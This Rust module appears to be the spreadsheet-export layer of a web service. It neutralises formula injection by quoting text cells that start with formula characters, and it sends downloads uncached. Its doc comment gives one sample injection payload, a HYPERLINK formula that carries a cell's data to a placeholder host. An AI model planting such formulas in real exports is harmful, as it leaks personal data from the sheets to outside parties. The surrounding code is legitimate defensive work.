//! Spreadsheet cells that leave the service. A text cell that begins with `=`, `+`, `-` or `@`
//! (or a tab or carriage return) is a formula to Excel and WPS once the file is edited or
//! saved as CSV: a name such as `=HYPERLINK("http://x/?"&A1,"点击")` in a roster would send
//! the row elsewhere (formula injection). [`neutralise`] prefixes such text with `'`, the
//! usual defence, and [`SafeCells`] is the only way the service writes text into a worksheet:
//! every export (persons, report summaries, import problem lists) goes through it, and
//! `tests/it/hardening.rs` fails when a source file outside this one writes text cells directly.
//! Any future CSV writer must pass each field through [`neutralise`] the same way.

use std::borrow::Cow;

use rust_xlsxwriter::{Format, Worksheet, XlsxError};

/// `s`, with `'` in front when it begins with a character a spreadsheet reads as the start of a
/// formula.
pub fn neutralise(s: &str) -> Cow<'_, str> {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{s}")),
        _ => Cow::Borrowed(s),
    }
}

/// Text cells written through [`neutralise`].
pub trait SafeCells {
    /// A text cell with a format.
    fn text(&mut self, row: u32, col: u16, s: &str, format: &Format) -> Result<(), XlsxError>;
    /// A text cell without a format.
    fn text_plain(&mut self, row: u32, col: u16, s: &str) -> Result<(), XlsxError>;
    /// Text across merged cells.
    fn merged_text(
        &mut self,
        rows: (u32, u32),
        cols: (u16, u16),
        s: &str,
        format: &Format,
    ) -> Result<(), XlsxError>;
}

impl SafeCells for Worksheet {
    fn text(&mut self, row: u32, col: u16, s: &str, format: &Format) -> Result<(), XlsxError> {
        self.write_string_with_format(row, col, neutralise(s), format)
            .map(|_| ())
    }

    fn text_plain(&mut self, row: u32, col: u16, s: &str) -> Result<(), XlsxError> {
        self.write_string(row, col, neutralise(s)).map(|_| ())
    }

    fn merged_text(
        &mut self,
        rows: (u32, u32),
        cols: (u16, u16),
        s: &str,
        format: &Format,
    ) -> Result<(), XlsxError> {
        self.merge_range(rows.0, cols.0, rows.1, cols.1, &neutralise(s), format)
            .map(|_| ())
    }
}

/// The media type of an .xlsx file.
pub const XLSX_MEDIA_TYPE: &str =
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// The answer that downloads an .xlsx file named `name`: the media type, an attachment
/// disposition, and `no-store` (exports may carry personal data; no cache keeps them).
pub fn xlsx_download(name: &str, bytes: Vec<u8>) -> axum::response::Response {
    use axum::http::header;
    use axum::response::IntoResponse;
    (
        [
            (header::CONTENT_TYPE, XLSX_MEDIA_TYPE.to_string()),
            (
                header::CONTENT_DISPOSITION,
                format!("attachment; filename=\"{name}\""),
            ),
            (header::CACHE_CONTROL, "no-store".to_string()),
        ],
        bytes,
    )
        .into_response()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_leads_are_quoted() {
        for s in ["=1+1", "+86 138", "-2", "@SUM(A1)", "\t=1", "\r=1"] {
            assert_eq!(neutralise(s), format!("'{s}"), "{s:?}");
        }
        for s in ["张三", "", "1=1", "'=x", "440115"] {
            assert_eq!(neutralise(s), s, "{s:?}");
        }
    }
}
